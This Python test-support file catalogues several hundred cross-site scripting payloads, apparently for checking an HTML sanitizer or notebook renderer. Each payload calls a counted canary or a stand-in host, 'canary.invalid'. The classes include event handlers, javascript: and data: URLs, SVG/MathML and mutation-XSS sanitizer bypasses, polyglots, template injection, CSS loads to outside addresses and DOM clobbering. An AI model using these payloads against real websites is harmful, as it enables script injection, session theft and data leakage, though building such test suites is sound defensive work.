"""Script injection of the public classes, each calling a canary.

``CANARY`` stands for a call that the page counts, ``OUTSIDE`` for an address that nobody may ask
for, ``INSIDE`` for the payload's number. `payloads` fills them in, so that what runs names itself.
"""

from __future__ import annotations

import base64

HOST = "canary.invalid"

_EVENTS = """
<img src=x onerror=CANARY>
<img src=x onerror="CANARY">
<img src=x onerror='CANARY'>
<img src=x onerror=`CANARY`>
<img/src=x/onerror=CANARY>
<img src=x:x onerror=CANARY>
<IMG SRC=x OnErRoR=CANARY>
<img src=x onerrorNEWLINE=CANARY>
<img\tsrc=x\tonerror=CANARY>
<img\x0csrc=x\x0conerror=CANARY>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=CANARY>
<img srcset=x onerror=CANARY>
<img src=x onerror=&#116;op.canary(INSIDE)>
<img src=x onerror=&#x74;op.canary(INSIDE)>
<img src=x onerror=top&period;canary&lpar;INSIDE&rpar;>
<img src=x onerror=top['can'+'ary'](INSIDE)>
<img src=x onerror=eval('CANARY')>
<img src=x onerror="\\u0074op.canary(INSIDE)">
<image src=x onerror=CANARY>
<body onload=CANARY>
<body onpageshow=CANARY>
<input autofocus onfocus=CANARY>
<select autofocus onfocus=CANARY></select>
<textarea autofocus onfocus=CANARY></textarea>
<button autofocus onfocus=CANARY>b</button>
<a href=# autofocus onfocus=CANARY tabindex=1>a</a>
<div tabindex=0 autofocus onfocus=CANARY>d</div>
<details open ontoggle=CANARY><summary>s</summary></details>
<video><source onerror=CANARY></video>
<video src=x onerror=CANARY></video>
<video src=x onloadstart=CANARY></video>
<audio src=x onerror=CANARY></audio>
<audio src onloadstart=CANARY></audio>
<marquee onstart=CANARY>m</marquee>
<marquee width=1 loop=1 onfinish=CANARY>m</marquee>
<object data=x: onerror=CANARY></object>
<embed src=x: onerror=CANARY>
<iframe onload=CANARY></iframe>
<style onload=CANARY>a{}</style>
<link rel=stylesheet href=data:text/css, onload=CANARY>
<script src=data:, onload=CANARY></script>
<xss onanimationstart=CANARY style="animation:a 1ms"><style>@keyframes a{}</style></xss>
<style>@keyframes x{from{left:0}to{left:9px}}</style><p style="animation:x 1ms" onanimationend=CANARY>p
<p style="transition:color 1ms" ontransitionend=CANARY id=t>p</p><style>#t{color:red}</style>
<p oncontentvisibilityautostatechange=CANARY style="display:block;content-visibility:auto">p
<p onbeforematch=CANARY hidden=until-found>p
<button popovertarget=p>b</button><div popover id=p onbeforetoggle=CANARY>p</div>
<form oninput=CANARY><input autofocus value=v></form>
<p onclick=CANARY onmouseover=CANARY onpointerenter=CANARY>hover</p>
<p oncopy=CANARY onpaste=CANARY contenteditable>edit</p>
<p onfocusin=CANARY tabindex=0 autofocus>focus</p>
<meter onclick=CANARY onmouseover=CANARY value=1>m</meter>
<img src=x onerror="window.onerror=top.canary;throw INSIDE">
<img src=x onerror=location='javascript:CANARY'>
<img src=x onerror=setTimeout('CANARY')>
<img src=x onerror=Function('CANARY')()>
<img src=x onerror=alert(INSIDE)>
<img src=x onerror=confirm(INSIDE)>
<img src=x onerror=fetch('OUTSIDE')>
"""

_SCRIPTS = """
<script>CANARY</script>
<SCRIPT>CANARY</SCRIPT>
<script >CANARY</script >
<script/x>CANARY</script>
<script\x0c>CANARY</script>
<script type=module>CANARY</script>
<script type=text/javascript>CANARY//</script>
<script>//<!--NEWLINECANARY</script>
<script><!--
CANARY//--></script>
<script src=OUTSIDE></script>
<script src=data:text/javascript,CANARY></script>
<script src="data:text/javascript;base64,B64"></script>
<scr<script>ipt>CANARY</scr</script>ipt>
<<script>CANARY//<</script>
"><script>CANARY</script>
'><script>CANARY</script>
</script><script>CANARY</script>
<script>CANARY
<svg><script>CANARY</script></svg>
<svg><script href=data:text/javascript,CANARY /></svg>
<svg><script xlink:href=data:text/javascript,CANARY></script></svg>
<svg><script>&#116;op.canary(INSIDE)</script></svg>
<math><script>CANARY</script></math>
<template><script>CANARY</script></template>
<noscript><script>CANARY</script></noscript>
<div><template shadowrootmode=open><script>CANARY</script></template></div>
<div><template shadowrootmode=open><img src=x onerror=CANARY></template></div>
"""

_ADDRESSES = """
<a href=javascript:CANARY>a</a>
<a href=" javascript:CANARY">a</a>
<a href="java\tscript:CANARY">a</a>
<a href="javaNEWLINEscript:CANARY">a</a>
<a href="java&#10;script:CANARY">a</a>
<a href="java&Tab;script:CANARY">a</a>
<a href="java&NewLine;script:CANARY">a</a>
<a href="&#1;javascript:CANARY">a</a>
<a href="&#x6A;avascript:CANARY">a</a>
<a href="javascript&colon;CANARY">a</a>
<a href="JaVaScRiPt:CANARY">a</a>
<a href="javascript://%0aCANARY">a</a>
<a href="vbscript:CANARY">a</a>
<a href="data:text/html,<script>CANARY</script>">a</a>
<a href="data:text/html;base64,B64">a</a>
<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CANARY'/>">a</a>
<a href="blob:javascript:CANARY">a</a>
<a ping=OUTSIDE href=#>a</a>
<area href=javascript:CANARY shape=default>
<form action=javascript:CANARY><button autofocus>b</button></form>
<form><button formaction=javascript:CANARY>b</button></form>
<form action=OUTSIDE id=f><input name=a></form><button form=f>b</button>
<isindex action=javascript:CANARY type=submit>
<input type=image src=OUTSIDE>
<iframe src=javascript:CANARY></iframe>
<iframe src="data:text/html,<script>top.canary(INSIDE)</script>"></iframe>
<iframe src=OUTSIDE></iframe>
<iframe srcdoc="<script>CANARY</script>"></iframe>
<iframe srcdoc="<img src=x onerror=CANARY>"></iframe>
<iframe srcdoc=&lt;script&gt;CANARY&lt;/script&gt;></iframe>
<iframe/src/srcdoc='<svg/onload=CANARY>'></iframe>
<frameset onload=CANARY><frame src=javascript:CANARY></frameset>
<object data=javascript:CANARY></object>
<object data="data:text/html,<script>CANARY</script>"></object>
<object data=OUTSIDE></object>
<embed src=javascript:CANARY>
<embed src="data:text/html,<script>CANARY</script>">
<embed src=OUTSIDE>
<portal src=OUTSIDE></portal>
<applet code=OUTSIDE archive=OUTSIDE></applet>
<base href=OUTSIDE/><img src=x>
<base href="javascript:/a/-CANARY//"><a href=x>a</a>
<meta http-equiv=refresh content="0;url=javascript:CANARY">
<meta http-equiv=refresh content="0;url=OUTSIDE">
<meta http-equiv=refresh content="0;url=data:text/html,<script>CANARY</script>">
<meta http-equiv=Content-Security-Policy content="default-src *"><img src=OUTSIDE>
<link rel=stylesheet href=OUTSIDE>
<link rel=import href=OUTSIDE>
<link rel=preload as=image href=OUTSIDE>
<link rel=prefetch href=OUTSIDE>
<link rel=modulepreload href=OUTSIDE>
<link rel=icon href=OUTSIDE>
<link rel=manifest href=OUTSIDE>
<img src=OUTSIDE>
<img src=//HOST/x>
<img srcset="OUTSIDE 1x">
<img src=x lowsrc=OUTSIDE dynsrc=OUTSIDE longdesc=OUTSIDE>
<picture><source srcset=OUTSIDE><img src=x></picture>
<video src=OUTSIDE poster=OUTSIDE></video>
<audio src=OUTSIDE autoplay></audio>
<video><track src=OUTSIDE default></video>
<table background=OUTSIDE><td background=OUTSIDE>t</table>
<body background=OUTSIDE>
<input type=text style="background:url(OUTSIDE)">
<q cite=OUTSIDE>q</q><blockquote cite=OUTSIDE>q</blockquote>
"""

_SVG = """
<svg onload=CANARY>
<svg/onload=CANARY>
<svg><g onload=CANARY></g></svg>
<svg><a href=javascript:CANARY><text y=9>a</text></a></svg>
<svg><a xlink:href=javascript:CANARY><text y=9>a</text></a></svg>
<svg><animate onbegin=CANARY attributeName=x dur=1s>
<svg><animate onend=CANARY attributeName=x dur=1ms>
<svg><set onbegin=CANARY attributeName=x to=1>
<svg><animateTransform onbegin=CANARY attributeName=transform>
<svg><a><animate attributeName=href values=javascript:CANARY /><text y=9>a</text></a></svg>
<svg><a><set attributeName=href to=javascript:CANARY /><text y=9>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>CANARY</script></svg>#x" /></svg>
<svg><use href=OUTSIDE#x /></svg>
<svg><image href=OUTSIDE /></svg>
<svg><image xlink:href=OUTSIDE onerror=CANARY /></svg>
<svg><image href=x onerror=CANARY /></svg>
<svg><feImage href=OUTSIDE /></svg>
<svg><filter id=f><feImage href=OUTSIDE /></filter><rect width=9 height=9 filter=url(#f) /></svg>
<svg width=9 height=9><rect width=9 height=9 filter="url(OUTSIDE#f)" /></svg>
<svg width=9 height=9><rect width=9 height=9 mask="url(OUTSIDE#m)" clip-path="url(OUTSIDE#c)" /></svg>
<svg width=9 height=9><rect width=9 height=9 fill="url(OUTSIDE#m)" cursor="url(OUTSIDE),auto" /></svg>
<svg width=9 height=9><path d="M0 0h9" stroke="red" marker-end="url(OUTSIDE#m)" /></svg>
<svg><foreignObject><img src=x onerror=CANARY></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>CANARY</script>"></iframe></foreignObject></svg>
<svg><style>@import 'OUTSIDE';</style></svg>
<svg><style><img src=x onerror=CANARY></style></svg>
<svg><title><img src=x onerror=CANARY></title></svg>
<svg><desc><img src=x onerror=CANARY></desc></svg>
<svg><discard onbegin=CANARY />
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>CANARY</handler></svg>
<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="CANARY"/>
<?xml-stylesheet href="javascript:CANARY"?>
"""

_MATHML = """
<math href=javascript:CANARY><mi>x</mi></math>
<math><mi href=javascript:CANARY>x</mi></math>
<math><maction actiontype=statusline xlink:href=javascript:CANARY>x</maction></math>
<math><annotation-xml encoding=text/html><img src=x onerror=CANARY></annotation-xml></math>
<math><semantics><annotation-xml encoding=application/xhtml+xml><svg onload=CANARY></svg></annotation-xml></semantics></math>
<math><mtext><img src=x onerror=CANARY></mtext></math>
<math><mglyph src=OUTSIDE /></math>
<math><mi//xlink:href="data:x,<script>CANARY</script>">x
"""

_MUTATION = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CANARY&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=CANARY></style></table>
<svg></p><style><a id="</style><img src=x onerror=CANARY>">
<svg><style>&lt;img src=x onerror=CANARY&gt;</style></svg>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CANARY></style></form>
<noscript><p title="</noscript><img src=x onerror=CANARY>"></p></noscript>
<noembed><p title="</noembed><img src=x onerror=CANARY>"></p></noembed>
<noframes><p title="</noframes><img src=x onerror=CANARY>"></p></noframes>
<xmp><p title="</xmp><img src=x onerror=CANARY>"></p></xmp>
<style><p title="</style><img src=x onerror=CANARY>"></p></style>
<textarea><p title="</textarea><img src=x onerror=CANARY>"></p></textarea>
<title><p title="</title><img src=x onerror=CANARY>"></p></title>
<iframe><p title="</iframe><img src=x onerror=CANARY>"></p></iframe>
<select><style></select><img src=x onerror=CANARY></style></select>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=CANARY>">
<plaintext><img src=x onerror=CANARY>
<listing>&lt;img src=x onerror=CANARY&gt;</listing>
<table><td><svg><desc><td></desc></svg></td></table><img src=x onerror=CANARY>
<p><svg><p><style><!--</style><img src=x onerror=CANARY>--></style>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=CANARY>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=CANARY></style></annotation-xml></math>
<img src="1`<img src=x onerror=CANARY>`">
<b><i></b><img src=x onerror=CANARY></i><a><table><a>
<a><a><a><a><table><td><a><img src=x onerror=CANARY>
"""

_CONTEXTS = """
"><img src=x onerror=CANARY>
'><img src=x onerror=CANARY>
" onmouseover="CANARY" autofocus onfocus="CANARY" x="
' onmouseover='CANARY' autofocus onfocus='CANARY' x='
` onfocus=CANARY autofocus x=`
--><img src=x onerror=CANARY><!--
--!><img src=x onerror=CANARY>
<!--><img src=x onerror=CANARY>-->
<!---><img src=x onerror=CANARY>-->
<!-- --!><img src=x onerror=CANARY> -->
<![CDATA[<img src=x onerror=CANARY>]]>
]]><img src=x onerror=CANARY>
<svg><![CDATA[><img src=x onerror=CANARY>]]></svg>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=CANARY>">]>&y;
<?php ?><img src=x onerror=CANARY>
<%= %><img src=x onerror=CANARY>
</title><img src=x onerror=CANARY>
</style><img src=x onerror=CANARY>
</textarea><img src=x onerror=CANARY>
</noscript><img src=x onerror=CANARY>
</select></table></iframe><img src=x onerror=CANARY>
</span></div></main></body></html><img src=x onerror=CANARY>
\\"><img src=x onerror=CANARY>
\\x3cimg src=x onerror=CANARY\\x3e
\\u003cimg src=x onerror=CANARY\\u003e
%3Cimg%20src%3Dx%20onerror%3DCANARY%3E
&lt;img src=x onerror=CANARY&gt;
&amp;lt;img src=x onerror=CANARY&amp;gt;
&#60;img src=x onerror=CANARY&#62;
';CANARY;//
";CANARY;//
`;${CANARY};//
*/CANARY/*
</script><svg onload=CANARY>
javascript:CANARY
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+CANARY//'>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=CANARY )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=CANARY//>\\x3e
"""

_TEMPLATES = """
{{CANARY}}
${CANARY}
#{CANARY}
<%=CANARY%>
{{constructor.constructor('CANARY')()}}
{{$on.constructor('CANARY')()}}
{%raw%}<img src=x onerror=CANARY>{%endraw%}
<div ng-app ng-csp><input ng-focus=$event.view.top.canary(INSIDE) autofocus></div>
<div v-html="'<img src=x onerror=CANARY>'"></div>
<div x-data x-init=CANARY>d</div>
<div dangerouslySetInnerHTML="{__html:'<img src=x onerror=CANARY>'}"></div>
<div data-bind="html:'<img src=x onerror=CANARY>'">d</div>
<a data-toggle=tooltip data-html=true title="<img src=x onerror=CANARY>">a</a>
<button data-commandlinker-command=notebook:run-all-cells data-commandlinker-args='{}'>run</button>
<div class=jp-RenderedJavaScript data-mime-type=application/javascript>CANARY</div>
<script type=application/vnd.jupyter.widget-state+json>{"state":{}}</script>
<script type=text/x-mathjax-config>CANARY</script>
$$\\href{javascript:CANARY}{x}$$
$\\unicode{<img src=x onerror=CANARY>}$
"""

_MARKDOWN = """
[a](javascript:CANARY)
[a](JaVaScRiPt:CANARY)
[a](javascript&colon;CANARY)
[a](<javascript:CANARY>)
[a](  javascript:CANARY "t")
[a](data:text/html,<script>CANARY</script>)
[a](vbscript:CANARY)
[a](x"onmouseover="CANARY)
![a](OUTSIDE)
![a](x"onerror="CANARY)
![<img src=x onerror=CANARY>](x)
[![a](OUTSIDE)](javascript:CANARY)
<javascript:CANARY>
[r]: javascript:CANARY "t" [a][r]
`<img src=x onerror=CANARY>`
```<img src=x onerror=CANARY>```
| a | <img src=x onerror=CANARY> |
- [ ] <img src=x onerror=CANARY>
<div>**<img src=x onerror=CANARY>**</div>
"""

_STYLES = """
<style>@import 'OUTSIDE';</style>
<style>@import url(OUTSIDE);</style>
<style>*{background:url(OUTSIDE)}</style>
<style>@font-face{font-family:f;src:url(OUTSIDE)}*{font-family:f}</style>
<style>p{list-style:url(OUTSIDE);display:list-item}</style><p>p
<style>p::before{content:url(OUTSIDE)}</style><p>p
<style>[class^=n]{background-image:url(OUTSIDE)}</style>
<style>*{cursor:url(OUTSIDE),auto;border-image:url(OUTSIDE)}</style>
<style>p{background:image-set('OUTSIDE' 1x)}</style><p>p
<style>@namespace 'OUTSIDE';@charset "x";</style>
<p style="background:url(OUTSIDE)">p
<p style="background:url(javascript:CANARY)">p
<p style="width:expression(CANARY)">p
<p style="-moz-binding:url(OUTSIDE#x)">p
<p style="behavior:url(OUTSIDE)">p
<p style="list-style-image:url('OUTSIDE');display:list-item">p
<p style="filter:url(OUTSIDE#f)">p
<p style="mask-image:url(OUTSIDE)">p
<p style="content:url(OUTSIDE)">p
<p style="background:u\\72l(OUTSIDE)">p
<p style="x:y;}*{background:url(OUTSIDE)}">p
<p style="position:fixed;inset:0;z-index:99999;background:red">over all
red;background:url(OUTSIDE)
</style><style>*{background:url(OUTSIDE)}</style>
"""

_CLOBBERING = """
<form id=attributes><input name=nodeName><input name=childNodes></form><img src=x onerror=CANARY>
<form><input name=attributes><input name=removeChild></form><img name=body src=x onerror=CANARY>
<img name=getElementById><img name=querySelector><img name=createElement>
<a id=document><a id=document name=body href=javascript:CANARY>a</a></a>
<form id=jupyterapp><input name=commands></form>
<iframe name=canary srcdoc="<script>CANARY</script>"></iframe>
<img id=nblabel name=nblabel src=x onerror=CANARY>
<form name=currentScript><input name=src value=OUTSIDE></form>
__proto__
constructor
toString
hasOwnProperty
"""

_UNICODE = """
\u202e<img src=x onerror=CANARY>\u202c
\u2066<img src=x onerror=CANARY>\u2069
\ufeff<img src=x onerror=CANARY>
\u200b<img src=x onerror=CANARY>\u200d
<\u200bimg src=x onerror=CANARY>
＜img src=x onerror=CANARY＞
‹img src=x onerror=CANARY›
<img src=x onerror\u00a0=CANARY>
<img src=x\u2028onerror=CANARY>
<ſcript>CANARY</ſcript>
<ımg src=x onerror=CANARY>
<im\u0131g src=x onerror=CANARY>
<a href="javaſcript:CANARY">a</a>
<a href="javascript\u2028:CANARY">a</a>
<img src=x onerror=\uff43anary>CANARY
+ADw-script+AD4-CANARY+ADw-/script+AD4-
\u00bcscript\u00beCANARY\u00bc/script\u00be
\u0430\u0301\u0302\u0303\u0304\u0305\u0306<img src=x onerror=CANARY>
\U0001f4a5<img src=x onerror=CANARY>\U0001f4a5
<img src=x\x0bonerror=CANARY>
<img src=x \x01onerror=CANARY>
\x1b[31m<img src=x onerror=CANARY>\x1b]8;;javascript:CANARY\x1b\\a
"""

CLASSES = {
    "event handlers": _EVENTS,
    "scripts": _SCRIPTS,
    "addresses": _ADDRESSES,
    "svg": _SVG,
    "mathml": _MATHML,
    "mutation": _MUTATION,
    "contexts": _CONTEXTS,
    "templates": _TEMPLATES,
    "markdown": _MARKDOWN,
    "styles": _STYLES,
    "clobbering": _CLOBBERING,
    "unicode": _UNICODE,
}


def _lines(block: str) -> list[str]:
    """One payload a line; other breaks of lines than this one are part of a payload."""
    return [line for line in block.split("\n") if line]


def _filled(text: str, number: int) -> str:
    call = f"top.canary({number})"
    page = base64.b64encode(f"<script>{call}</script>".encode()).decode()
    if "text/javascript;base64" in text:
        page = base64.b64encode(call.encode()).decode()
    for name, value in (
        ("CANARY", call),
        ("INSIDE", str(number)),
        ("OUTSIDE", f"https://{HOST}/{number}"),
        ("HOST", HOST),
        ("B64", page),
        ("NEWLINE", "\n"),
    ):
        text = text.replace(name, value)
    return text


def payloads() -> list[str]:
    """All payloads, each with its place in the list as its number."""
    texts = [line for block in CLASSES.values() for line in _lines(block)]
    return [_filled(text, number) for number, text in enumerate(texts)]


_CLOSE = (
    "\n\n-->'\">]]></script></style></title></textarea></noscript></xmp></iframe></noembed>"
    "</noframes></select></template></svg></math></table>\n\n"
)


def joined(texts: list[str]) -> str:
    """Several payloads as one text, what each leaves open closed again."""
    ends = [text for text in texts if "<plaintext" in text]  # which nothing closes
    return _CLOSE.join([text for text in texts if text not in ends] + ends)
